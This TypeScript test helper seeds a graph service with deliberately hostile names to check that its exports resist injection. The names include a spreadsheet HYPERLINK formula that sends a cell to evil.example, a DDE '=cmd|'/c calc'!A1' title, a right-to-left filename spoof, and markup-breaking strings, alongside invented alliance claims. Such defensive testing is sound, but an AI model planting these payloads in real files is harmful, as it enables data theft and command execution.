import { join } from "node:path";
import { loadOntology } from "../../src/ontology/load-ontology.js";
import { loadStory } from "../../src/record/load-story.js";
import { projectRoot } from "../../src/root.js";
import { readStory } from "../../src/story/read-story.js";
import { startTestService, type TestService } from "./service.js";
import { askAs, payloadOf } from "./writers.js";

/** Names that a spreadsheet would reckon, markup would end at, or an editor would show the wrong way round. */
export const hostileNames = {
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"open me")',
  plus: "+1",
  minus: "-1",
  at: "@SUM(A1)",
  turned: "\u202egnp.exe\u2066 turned\u2069",
  markup: `]]> </name> <b a='1'> "quoted" & R&D 😀 \u0007bell`,
} as const;

/** A quote that starts with a tab, and holds a line end and a formula. */
export const hostileQuote = '\t=1+1,\n"said" the man';

/** The service with the seed, an invented war with dates, and the names above: each allied with Nusra, the markup also fought by `minus`. */
export async function startExported(): Promise<TestService> {
  const service = await startTestService();
  const ontology = loadOntology(join(projectRoot, "schema"));
  for (const name of ["salt-coast-gazette", "salt-coast-courier"]) {
    const story = readStory(join(projectRoot, "tests/fixtures/oracle-story", name), ontology);
    await loadStory(service.graph, ontology, story, { by: name });
  }
  await tellHostile(service);
  return service;
}

async function tellHostile(service: TestService): Promise<void> {
  const ask = await askAs(service, "ANALYST", "-Amal");
  const write = async (mutation: string, type: string, input: object) => {
    const text = `mutation ($input: ${type}!) { ${mutation}(input: $input) { userErrors { message } } }`;
    const { userErrors } = await payloadOf(ask, text, input);
    if (userErrors.length > 0) throw new Error(JSON.stringify(userErrors));
  };
  for (const [slug, value] of Object.entries(hostileNames))
    await write("createEntity", "CreateEntityInput", {
      ...{ kind: "ARMED_GROUP", slug, names: [{ value, language: "en" }] },
      descriptions: [{ language: "en", value: `described: ${value}` }],
    });
  await write("registerDocument", "RegisterDocumentInput", {
    ...{ title: "=cmd|'/c calc'!A1", slug: "hostile", language: "en", text: `So ${hostileQuote} of it.` },
  });
  const said = {
    document: "hostile",
    evidence: [{ exact: hostileQuote }],
    attribution: [{ act: "STATES", channel: "+channel" }],
  };
  for (const subject of Object.keys(hostileNames))
    await write("assertClaim", "AssertClaimInput", {
      ...{ ...said, subject, predicate: "ALLIED_WITH", object: "jabhat-al-nusra" },
    });
  await write("assertClaim", "AssertClaimInput", {
    ...{ ...said, subject: "minus", predicate: "FOUGHT", object: "markup" },
  });
}

/** The text of an export; throws where the service does not answer 200. */
export async function exported(service: TestService, path: string): Promise<string> {
  const response = await fetch(`${service.url}/export/${path}`);
  const bytes = Buffer.from(await response.arrayBuffer());
  if (response.status !== 200) throw new Error(`${path}: ${response.status} ${bytes}`);
  return bytes.toString("utf8");
}
